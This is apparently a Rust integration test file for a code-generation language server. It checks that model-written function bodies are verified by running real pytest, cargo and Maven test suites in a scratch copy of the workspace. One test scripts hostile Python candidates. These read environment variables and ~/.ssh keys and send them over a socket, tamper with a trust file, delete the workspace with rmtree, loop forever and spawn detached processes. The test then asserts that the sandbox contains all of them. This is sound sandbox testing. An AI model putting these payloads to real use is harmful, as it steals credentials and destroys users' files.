//! Execution-aware verification through the real server, with the real runners (pytest, cargo,
//! Maven): a scripted model answers a wrong body first and a right one when refined; the wrong one
//! is never shown, the right one is, the verdict is reported, and the workspace is byte-identical
//! afterwards. Hostile candidates leave no trace and no process. The trust question is asked once.

mod common;

use std::sync::Arc;

use codeforge_model::{Prompt, Scripted, ScriptedReply};
use common::{TestClient, uri};
use serde_json::{Value, json};

const PY_WRONG: &str =
    "```python\ndef count_vowels(text):\n    return sum(1 for c in text if c in \"aeiou\")\n```";
const PY_RIGHT: &str = "```python\ndef count_vowels(text):\n    return sum(1 for c in text.lower() if c in \"aeiou\")\n```";

async fn open(c: &mut TestClient, path: &std::path::Path, lang: &str) -> String {
    let text = std::fs::read_to_string(path).unwrap();
    let doc = uri(path);
    c.notify(
        "textDocument/didOpen",
        json!({"textDocument": {"uri": doc, "languageId": lang, "version": 1, "text": text}}),
    )
    .await;
    doc
}

fn last_user_message(p: &Prompt) -> String {
    match p {
        Prompt::Chat(m) => m.last().map(|m| m.content.clone()).unwrap_or_default(),
        Prompt::Text(t) => t.clone(),
    }
}

async fn generate(c: &mut TestClient, doc: &str, line: u32) -> Value {
    let id = c
        .send_request(
            "codeforge/generate",
            json!({"textDocument": {"uri": doc}, "position": {"line": line, "character": 4}}),
        )
        .await;
    c.response(id, 300)
        .await
        .unwrap_or_else(|e| panic!("codeforge/generate failed: {e}"))
}

/// A server with a scripted model that answers `replies` in order, on `ws` with `verify`
/// settings (`trust = "always"` added), and the `codeforge/generate` result at `line` of
/// `file`; the workspace must be byte-identical afterwards.
async fn generate_scripted(
    ws: &codeforge_testkit::TempWorkspace,
    replies: &[&str],
    verify: Value,
    file: &str,
    lang: &str,
    line: u32,
) -> Value {
    let model = Arc::new(Scripted::new(
        replies.iter().map(|r| ScriptedReply::Text((*r).into())),
    ));
    let mut c = TestClient::start_with(&ws.cache, Some(model));
    let mut verify = verify;
    verify["trust"] = json!("always");
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "verify": verify}),
    )
    .await;
    let before = codeforge_testkit::snapshot(&ws.root);
    let doc = open(&mut c, &ws.root.join(file), lang).await;
    let r = generate(&mut c, &doc, line).await;
    assert_eq!(
        codeforge_testkit::snapshot(&ws.root),
        before,
        "the workspace changed"
    );
    r
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn python_wrong_then_right_through_the_code_action_with_the_trust_question() {
    let ws = codeforge_testkit::workspace("verify_python");
    let model = Arc::new(Scripted::new([
        ScriptedReply::Text(PY_WRONG.into()),
        ScriptedReply::Text(PY_RIGHT.into()),
    ]));
    let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
    c.message_answer = Some("Allow".into());
    let python = codeforge_testkit::verify_python();
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "verify": {"python": python, "rounds": 2}}),
    )
    .await;
    let before = codeforge_testkit::snapshot(&ws.root);
    let doc = open(&mut c, &ws.root.join("textstat/words.py"), "python").await;

    let actions = c
        .request(
            "textDocument/codeAction",
            json!({"textDocument": {"uri": doc}, "range": {"start": {"line": 4, "character": 0}, "end": {"line": 4, "character": 0}}, "context": {"diagnostics": []}}),
        )
        .await;
    let action = actions
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["title"].as_str().unwrap().contains("count_vowels"))
        .unwrap()
        .clone();
    let resolved = c.request("codeAction/resolve", action).await;
    let title = resolved["title"].as_str().unwrap();
    let new_text = resolved["edit"]["documentChanges"][0]["edits"][0]["newText"]
        .as_str()
        .unwrap();
    assert!(
        new_text.contains("text.lower()"),
        "the right body is shown: {new_text}"
    );
    assert!(
        !resolved.to_string().contains("c in text if"),
        "the wrong body is never shown"
    );
    assert!(
        title.contains("✓") && title.contains("tests passed") && title.contains("in 2 rounds"),
        "{title}"
    );
    assert!(
        title.contains("4/4") && title.contains("that reach `count_vowels` (of 4 collected)"),
        "measured: the 3 tests that reach it (test_shout from its module does not) + the doctest: {title}"
    );
    // The typed verdict editors read: in the resolved action's data and in a notification.
    assert_eq!(
        resolved["data"]["verification"]["status"], "passed",
        "{resolved}"
    );
    assert_eq!(resolved["data"]["verification"]["testsFrom"], "workspace");
    let note = c
        .wait_for("codeforge/verification", 10, |n| {
            n["method"] == "codeforge/verification"
        })
        .await;
    assert_eq!(note["params"]["verification"]["status"], "passed", "{note}");
    assert_eq!(
        note["params"]["target"], "textstat.words.count_vowels",
        "{note}"
    );

    // The refinement prompt carried the failing test's output.
    assert_eq!(model.calls(), 2);
    let refine = last_user_message(&model.prompts()[1]);
    assert!(
        refine.contains("test_counts_capitals") && refine.contains("assert"),
        "{refine}"
    );

    // Asked once; remembered per workspace.
    let asked = c
        .server_requests
        .iter()
        .filter(|r| r["method"] == "window/showMessageRequest")
        .count();
    assert_eq!(asked, 1);
    let trust = std::fs::read_to_string(ws.cache.join("trust.json")).unwrap();
    assert!(trust.contains("allow"), "{trust}");

    // The user's tree is byte-for-byte what it was.
    assert_eq!(codeforge_testkit::snapshot(&ws.root), before);

    // A second generation (on the other stub, no tests reference it: the model writes tests) does not ask again.
    model.push(ScriptedReply::Text("```python\ndef initials(name):\n    return \"\".join(w[0].upper() for w in name.split())\n```".into()));
    model.push(ScriptedReply::Text("```python\ndef test_two_words():\n    assert initials(\"ada lovelace\") == \"AL\"\n\ndef test_one():\n    assert initials(\"grace\") == \"G\"\n```".into()));
    let r = generate(&mut c, &doc, 18).await;
    let asked = c
        .server_requests
        .iter()
        .filter(|r| r["method"] == "window/showMessageRequest")
        .count();
    assert_eq!(asked, 1, "the answer is remembered");
    assert_eq!(r["verification"]["status"], "passed", "{r}");
    assert_eq!(r["verification"]["tests_from"], "generated", "{r}");
    assert!(
        r["verification"]["label"]
            .as_str()
            .unwrap()
            .contains("model-written"),
        "{r}"
    );
    assert_eq!(codeforge_testkit::snapshot(&ws.root), before);
}

/// An answer with no usable function is sent back once with the reason; the second answer is
/// verified as usual.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unusable_answer_is_asked_again_then_verified() {
    let ws = codeforge_testkit::workspace("verify_python");
    let model = Arc::new(Scripted::new([
        ScriptedReply::Text("I am not able to see the tests, sorry.".into()),
        ScriptedReply::Text(PY_RIGHT.into()),
    ]));
    let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "verify": {"trust": "always", "python": codeforge_testkit::verify_python()}}),
    )
    .await;
    let doc = open(&mut c, &ws.root.join("textstat/words.py"), "python").await;
    let r = generate(&mut c, &doc, 4).await;
    assert_eq!(r["status"], "generated", "{r}");
    assert_eq!(r["verification"]["status"], "passed", "{r}");
    assert_eq!(model.calls(), 2);
    let again = last_user_message(&model.prompts()[1]);
    assert!(
        again.contains("could not be used") && again.contains("count_vowels"),
        "{again}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn not_now_keeps_results_unverified_and_runs_nothing() {
    let ws = codeforge_testkit::workspace("verify_python");
    let model = Arc::new(Scripted::always(PY_WRONG));
    let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
    c.message_answer = Some("Not now".into());
    c.initialize(&[&ws.root], json!({"embeddings": {"backend": "none"}, "verify": {"python": codeforge_testkit::verify_python()}})).await;
    let doc = open(&mut c, &ws.root.join("textstat/words.py"), "python").await;
    let r = generate(&mut c, &doc, 4).await;
    assert_eq!(r["status"], "generated");
    assert_eq!(r["verification"]["status"], "unverified");
    assert!(
        r["verification"]["label"]
            .as_str()
            .unwrap()
            .starts_with("⚠ unverified"),
        "{r}"
    );
    assert!(r["message"].as_str().unwrap().contains("Not now"), "{r}");
    assert!(
        !ws.cache.join("verify").exists(),
        "no scratch copy, nothing ran"
    );
    assert!(
        !ws.cache.join("trust.json").exists(),
        "“Not now” is not remembered on disk"
    );
    // Asked again? No: "Not now" holds for the session.
    let _ = generate(&mut c, &doc, 4).await;
    assert_eq!(
        c.server_requests
            .iter()
            .filter(|r| r["method"] == "window/showMessageRequest")
            .count(),
        1
    );
    // Trusting by command lets the next one run.
    c.request(
        "workspace/executeCommand",
        json!({"command": "codeforge.trustWorkspace", "arguments": []}),
    )
    .await;
    let r = generate(&mut c, &doc, 4).await;
    assert_eq!(
        r["verification"]["status"], "failed",
        "the wrong body fails the tests: {r}"
    );
    assert_eq!(r["status"], "no_passing_candidate");
    assert!(
        r["edit"].is_null(),
        "a failing candidate is not shown by default"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_candidates_leave_no_trace_and_no_process() {
    let ws = codeforge_testkit::workspace("verify_python");
    let root = ws.root.display().to_string();
    let marker = format!("codeforge-hostile-{}", std::process::id());
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    let home_file = home.join(&marker);
    let home_abs = home.join(format!("{marker}-abs"));
    let trust_file = home.join(".config/codeforge/trust.json");
    let trust_before = std::fs::read(&trust_file).ok();
    // A listener the candidate tries to send the ssh key and the token to.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let exfil = format!(
        "```python\ndef count_vowels(text):\n    import os, socket, glob\n    data = repr(dict(os.environ)).encode()\n    for k in glob.glob('{h}/.ssh/*'):\n        try:\n            data += open(k, 'rb').read()\n        except OSError:\n            pass\n    try:\n        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(data)\n    except OSError:\n        pass\n    try:\n        os.makedirs('{h}/.config/codeforge', exist_ok=True)\n        open('{t}', 'a').write('{marker}')\n    except OSError:\n        pass\n    try:\n        open('{a}', 'w').write('x')\n    except OSError:\n        pass\n    return 0\n```",
        h = home.display(),
        t = trust_file.display(),
        a = home_abs.display(),
    );
    let vandal = format!(
        "```python\ndef count_vowels(text):\n    import os, shutil\n    open(os.path.expanduser('~/{marker}'), 'w').write('x')\n    for p in ('{root}/pwned.txt', '{root}/textstat/words.py'):\n        try:\n            open(p, 'w').write('pwned')\n        except OSError:\n            pass\n    shutil.rmtree('{root}', ignore_errors=True)\n    shutil.rmtree(os.getcwd(), ignore_errors=True)\n    return 0\n```"
    );
    let looper =
        "```python\ndef count_vowels(text):\n    while True:\n        pass\n```".to_string();
    let forker = format!(
        "```python\ndef count_vowels(text):\n    import subprocess\n    for _ in range(20):\n        subprocess.Popen(['sh', '-c', 'sleep 300; echo {marker}'], start_new_session=True)\n    return 0\n```"
    );
    let model = Arc::new(Scripted::new(
        [vandal, exfil, looper, forker, PY_RIGHT.to_string()].map(ScriptedReply::Text),
    ));
    let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "generation": {"n": 5}, "verify": {"python": codeforge_testkit::verify_python(), "trust": "always", "rounds": 0, "test_timeout_s": 10}}),
    )
    .await;
    let before = codeforge_testkit::snapshot(&ws.root);
    let doc = open(&mut c, &ws.root.join("textstat/words.py"), "python").await;
    let r = generate(&mut c, &doc, 4).await;
    assert_eq!(r["verification"]["status"], "passed", "{r}");
    assert!(r["code"].as_str().unwrap().contains("text.lower()"), "{r}");
    assert!(
        !home_abs.exists(),
        "home written by absolute path: {}",
        home_abs.display()
    );
    assert_eq!(
        std::fs::read(&trust_file).ok(),
        trust_before,
        "the trust file was written"
    );
    assert!(
        listener.accept().is_err(),
        "a candidate reached a local listener"
    );
    assert_eq!(
        codeforge_testkit::snapshot(&ws.root),
        before,
        "the workspace is untouched"
    );
    assert!(
        !home_file.exists(),
        "$HOME was written: {}",
        home_file.display()
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    let left = codeforge_testkit::processes_with(&marker);
    assert!(left.is_empty(), "processes left behind: {left:?}");
    let v = &r["verification"];
    assert_eq!(v["candidates"], 5, "{v}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rust_wrong_then_right_with_cargo() {
    let ws = codeforge_testkit::workspace("verify_rust");
    let wrong = "```rust\npub fn fib(n: u32) -> u64 {\n    n as u64\n}\n```";
    let right = "```rust\npub fn fib(n: u32) -> u64 {\n    let (mut a, mut b) = (0u64, 1u64);\n    for _ in 0..n {\n        let t = a + b;\n        a = b;\n        b = t;\n    }\n    a\n}\n```";
    let model = Arc::new(Scripted::new([
        ScriptedReply::Text(wrong.into()),
        ScriptedReply::Text(right.into()),
    ]));
    let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "verify": {"trust": "always", "whole_suite_s": 3600}}),
    )
    .await;
    let before = codeforge_testkit::snapshot(&ws.root);
    let doc = open(&mut c, &ws.root.join("src/lib.rs"), "rust").await;
    let r = generate(&mut c, &doc, 3).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "passed", "{r}");
    assert_eq!(v["rounds"], 1);
    // The survey found the two tests that reach `fib`; a suite this fast runs whole.
    assert_eq!(v["passed"], 3, "first_terms, tenth and doubles: {v}");
    assert!(
        v["label"]
            .as_str()
            .unwrap()
            .contains("the whole suite (2 reach `fib`)"),
        "{v}"
    );
    assert!(r["code"].as_str().unwrap().contains("let t = a + b"), "{r}");
    assert!(
        !r.to_string().contains("n as u64"),
        "the wrong body is never shown"
    );
    let refine = last_user_message(&model.prompts()[1]);
    assert!(
        refine.contains("first_terms") && refine.contains("left"),
        "{refine}"
    );
    assert_eq!(codeforge_testkit::snapshot(&ws.root), before);
    assert!(
        !ws.root.join("target").exists() && !ws.root.join("Cargo.lock").exists(),
        "no build output in the user's tree"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn java_wrong_then_right_with_maven() {
    let ws = codeforge_testkit::workspace("verify_java");
    let wrong = "```java\npublic static String reverse(String s) {\n    return s;\n}\n```";
    let right = "```java\npublic static String reverse(String s) {\n    return new StringBuilder(s).reverse().toString();\n}\n```";
    let model = Arc::new(Scripted::new([
        ScriptedReply::Text(wrong.into()),
        ScriptedReply::Text(right.into()),
    ]));
    let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "verify": {"trust": "always", "maven_settings": codeforge_testkit::maven_settings(), "test_timeout_s": 280, "whole_suite_s": 0}}),
    )
    .await;
    let before = codeforge_testkit::snapshot(&ws.root);
    let doc = open(
        &mut c,
        &ws.root.join("src/main/java/com/acme/Strings.java"),
        "java",
    )
    .await;
    let r = generate(&mut c, &doc, 11).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "passed", "{r}");
    // The survey: the two tests that reach `reverse` (not `twice`), named by Surefire.
    assert_eq!(v["passed"], 2, "{v}");
    assert!(
        v["label"]
            .as_str()
            .unwrap()
            .contains("2/2 tests passed that reach `reverse` (of 3 collected)"),
        "{v}"
    );
    assert!(r["code"].as_str().unwrap().contains("StringBuilder"), "{r}");
    let refine = last_user_message(&model.prompts()[1]);
    assert!(refine.contains("reversesAWord"), "{refine}");
    assert_eq!(codeforge_testkit::snapshot(&ws.root), before);

    // No test calls `capitalize`: the model writes JUnit tests (here as a whole class, with a
    // package-private method JUnit 4 would refuse), which run in a class of their own.
    model.push(ScriptedReply::Text(
        "```java
public static String capitalize(String s) {
    return s.isEmpty() ? s : Character.toUpperCase(s.charAt(0)) + s.substring(1);
}
```"
        .into(),
    ));
    model.push(ScriptedReply::Text(
        "```java
import org.junit.Test;
import static org.junit.Assert.*;

public class StringsCapitalizeTest {
    @Test
    void testWord() {
        assertEquals(\"Hello\", Strings.capitalize(\"hello\"));
    }

    @Test
    public void testEmpty() {
        assertEquals(\"\", Strings.capitalize(\"\"));
    }
}
```"
        .into(),
    ));
    let r = generate(&mut c, &doc, 24).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "passed", "{r}");
    assert_eq!(v["tests_from"], "generated", "{r}");
    assert_eq!(v["passed"], 2, "{v}");
    assert!(
        v["label"].as_str().unwrap().contains("model-written"),
        "{v}"
    );
    assert_eq!(codeforge_testkit::snapshot(&ws.root), before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gradle_projects_are_reported_not_skipped() {
    let ws = codeforge_testkit::workspace("verify_java");
    std::fs::remove_file(ws.root.join("pom.xml")).unwrap();
    std::fs::write(ws.root.join("build.gradle"), "plugins { id 'java' }\n").unwrap();
    let model = Arc::new(Scripted::always(
        "```java\npublic static String reverse(String s) {\n    return s;\n}\n```",
    ));
    let mut c = TestClient::start_with(&ws.cache, Some(model));
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "verify": {"trust": "always"}}),
    )
    .await;
    let doc = open(
        &mut c,
        &ws.root.join("src/main/java/com/acme/Strings.java"),
        "java",
    )
    .await;
    let r = generate(&mut c, &doc, 11).await;
    assert_eq!(r["verification"]["status"], "unverified");
    assert!(
        r["verification"]["reason"]
            .as_str()
            .unwrap()
            .contains("Gradle"),
        "{r}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agreement_picks_the_majority_behaviour_and_a_lone_pass_among_disagreeing_ones_is_disputed()
{
    let ws = codeforge_testkit::workspace("verify_python");
    let body = |b: &str| format!("```python\ndef count_vowels(text):\n    {b}\n```");
    // C passes the tests but differs on an all-capitals input; A and B behave alike.
    let c = body(
        "return sum(1 for c in text.lower() if c in \"aeiou\") + (1 if text.isupper() else 0)",
    );
    let a = body("return sum(1 for c in text.lower() if c in \"aeiou\")");
    let b = body("return len([c for c in text if c in \"aeiouAEIOU\"])");
    let model = Arc::new(Scripted::new([c, a, b].map(ScriptedReply::Text)));
    let mut c_ = TestClient::start_with(&ws.cache, Some(model.clone()));
    c_.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "generation": {"n": 3}, "verify": {"python": codeforge_testkit::verify_python(), "trust": "always", "rounds": 0}}),
    )
    .await;
    let doc = open(&mut c_, &ws.root.join("textstat/words.py"), "python").await;
    let r = generate(&mut c_, &doc, 4).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "passed", "{r}");
    assert_eq!(v["agreement"], json!([2, 3]), "{v}");
    assert!(
        !r["code"].as_str().unwrap().contains("isupper"),
        "the odd one out is not shown although it came first: {r}"
    );

    // Two passing candidates that disagree: the one shown has nobody agreeing with it.
    let model2 = Arc::new(Scripted::new(
        [
            body("return sum(1 for c in text.lower() if c in \"aeiou\") + (1 if text.isupper() else 0)"),
            body("return sum(1 for c in text.lower() if c in \"aeiou\")"),
        ]
        .map(ScriptedReply::Text),
    ));
    let ws2 = codeforge_testkit::workspace("verify_python");
    let mut c2 = TestClient::start_with(&ws2.cache, Some(model2));
    c2.initialize(
        &[&ws2.root],
        json!({"embeddings": {"backend": "none"}, "generation": {"n": 2}, "verify": {"python": codeforge_testkit::verify_python(), "trust": "always", "rounds": 0}}),
    )
    .await;
    let doc2 = open(&mut c2, &ws2.root.join("textstat/words.py"), "python").await;
    let r = generate(&mut c2, &doc2, 4).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "disputed", "{r}");
    assert!(
        v["label"].as_str().unwrap().starts_with("≈")
            && v["label"].as_str().unwrap().contains("behave differently"),
        "{v}"
    );
    assert!(
        r["edit"].is_object(),
        "it passed the tests, so it is shown, marked: {r}"
    );
}

/// A workspace's own virtualenv as `pip install -e .` leaves it: pytest and its dependencies in
/// `.venv`'s site-packages (copied from CodeForge's venv), the package itself only through a
/// `.pth` file that points at the user's `src/`.
fn editable_venv(root: &std::path::Path) {
    let base = codeforge_testkit::verify_python();
    let ok = std::process::Command::new(&base)
        .args(["-m", "venv", "--without-pip"])
        .arg(root.join(".venv"))
        .status()
        .unwrap()
        .success();
    assert!(ok, "python -m venv");
    let site_of = |python: &std::path::Path| {
        let out = std::process::Command::new(python)
            .args([
                "-c",
                "import sysconfig; print(sysconfig.get_paths()['purelib'])",
            ])
            .output()
            .unwrap();
        std::path::PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
    };
    let from = site_of(std::path::Path::new(&base));
    let to = site_of(&root.join(".venv/bin/python"));
    for e in std::fs::read_dir(&from).unwrap().flatten() {
        let n = e.file_name().to_string_lossy().into_owned();
        let wanted = [
            "pytest",
            "_pytest",
            "pluggy",
            "iniconfig",
            "packaging",
            "py.py",
        ];
        if wanted
            .iter()
            .any(|w| n == *w || n.starts_with(&format!("{w}-")))
        {
            let ok = std::process::Command::new("cp")
                .arg("-a")
                .arg(e.path())
                .arg(&to)
                .status()
                .unwrap()
                .success();
            assert!(ok, "copy {n}");
        }
    }
    std::fs::write(
        to.join("__editable__.calc-0.1.0.pth"),
        format!("{}\n", root.join("src").display()),
    )
    .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn python_src_layout_with_an_editable_install_and_nested_test_helpers() {
    let ws = codeforge_testkit::workspace("verify_src_layout");
    editable_venv(&ws.root);
    // Wrong: negative shares are not kept at 0. Only `test_percent` catches it, through
    // `percent`; its `check` helper is nested in it (an id pytest cannot collect).
    let wrong = "```python\ndef scale(x, factor):\n    return min(int(x * factor), 100)\n```";
    // Right, and it needs an import the file does not have.
    let right = "```python\nimport math\n\n\ndef scale(x, factor):\n    return max(0, min(math.floor(x * factor), 100))\n```";
    let model = Arc::new(Scripted::new([
        ScriptedReply::Text(wrong.into()),
        ScriptedReply::Text(right.into()),
    ]));
    let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
    // No verify.python: the workspace's own `.venv` is the interpreter.
    c.initialize(
        &[&ws.root],
        json!({"embeddings": {"backend": "none"}, "verify": {"trust": "always", "rounds": 2}}),
    )
    .await;
    let before = codeforge_testkit::snapshot(&ws.root);
    let doc = open(&mut c, &ws.root.join("src/calc/__init__.py"), "python").await;
    let r = generate(&mut c, &doc, 3).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "passed", "{r}");
    assert_eq!(v["rounds"], 1, "the wrong body was rejected first: {v}");
    assert!(
        v["label"]
            .as_str()
            .unwrap()
            .contains("tests passed that reach `scale` (of 2 collected)"),
        "measured through the editable install, in the scratch copy: {v}"
    );
    assert_eq!(v["selected_tests"], json!(["test_percent"]), "{v}");
    let edit = r["edit"].to_string();
    assert!(
        edit.contains("import math") && edit.contains("math.floor"),
        "the import travels in the same edit: {edit}"
    );
    assert!(
        !r.to_string().contains("min(int("),
        "the wrong body is never shown"
    );
    let refine = last_user_message(&model.prompts()[1]);
    assert!(refine.contains("test_percent"), "{refine}");
    assert_eq!(
        codeforge_testkit::snapshot(&ws.root),
        before,
        "the workspace changed"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rust_tests_that_never_call_the_function_do_not_verify_it() {
    // `-> impl Iterator` cannot take the survey's panicking body, so tests are chosen by name:
    // only the module's `doubles`, which never calls `evens`. Passing it verifies nothing.
    let ws = codeforge_testkit::workspace("verify_rust_weak");
    let right = "```rust\npub fn evens(n: usize) -> impl Iterator<Item = u64> {\n    (0..n as u64).map(|i| 2 * i)\n}\n```";
    let settings = json!({"rounds": 0, "generate_tests": false});
    let r = generate_scripted(&ws, &[right], settings, "src/lib.rs", "rust", 3).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "unverified", "{r}");
    assert_eq!(v["passed"], 1, "{v}");
    assert!(
        v["label"]
            .as_str()
            .unwrap()
            .contains("none of them calls `evens`"),
        "{v}"
    );
    assert!(
        v["notes"].to_string().contains("did not build"),
        "the survey's fallback is reported: {v}"
    );
    assert!(r["edit"].is_null(), "not verified, so not shown: {r}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cargo_workspace_members_function_is_checked_by_another_members_test() {
    // `geometry::area` is reached only by `report`'s integration test, through
    // `report::describe_floor`: the survey finds it at the workspace root.
    let ws = codeforge_testkit::workspace("verify_cargo_workspace");
    let wrong = "```rust\npub fn area(w: u32, h: u32) -> u32 {\n    w + h\n}\n```";
    let right = "```rust\npub fn area(w: u32, h: u32) -> u32 {\n    w * h\n}\n```";
    let settings = json!({"whole_suite_s": 0, "generate_tests": false});
    let r = generate_scripted(
        &ws,
        &[wrong, right],
        settings,
        "geometry/src/lib.rs",
        "rust",
        1,
    )
    .await;
    let v = &r["verification"];
    assert_eq!(v["status"], "passed", "{r}");
    assert_eq!(v["rounds"], 1, "the wrong body was rejected first: {v}");
    assert_eq!(v["selected_tests"], json!(["describes_a_floor"]), "{v}");
    assert!(
        v["label"]
            .as_str()
            .unwrap()
            .contains("1/1 tests passed that reach `area`"),
        "{v}"
    );
    assert!(r["code"].as_str().unwrap().contains("w * h"), "{r}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn java_a_maven_modules_method_is_checked_by_another_modules_test() {
    // `Geometry.area` is reached only by `report`'s `FloorTest`, through `Report.describeFloor`.
    let ws = codeforge_testkit::workspace("verify_maven_modules");
    let wrong = "```java\npublic static int area(int w, int h) {\n    return w + h;\n}\n```";
    let right = "```java\npublic static int area(int w, int h) {\n    return w * h;\n}\n```";
    let settings = json!({"maven_settings": codeforge_testkit::maven_settings(), "test_timeout_s": 280, "whole_suite_s": 0, "generate_tests": false});
    let file = "geometry/src/main/java/com/acme/geometry/Geometry.java";
    let r = generate_scripted(&ws, &[wrong, right], settings, file, "java", 4).await;
    let v = &r["verification"];
    assert_eq!(v["status"], "passed", "{r}");
    assert_eq!(v["rounds"], 1, "the wrong body was rejected first: {v}");
    assert_eq!(v["selected_tests"], json!(["describesAFloor"]), "{v}");
    assert!(r["code"].as_str().unwrap().contains("w * h"), "{r}");
}
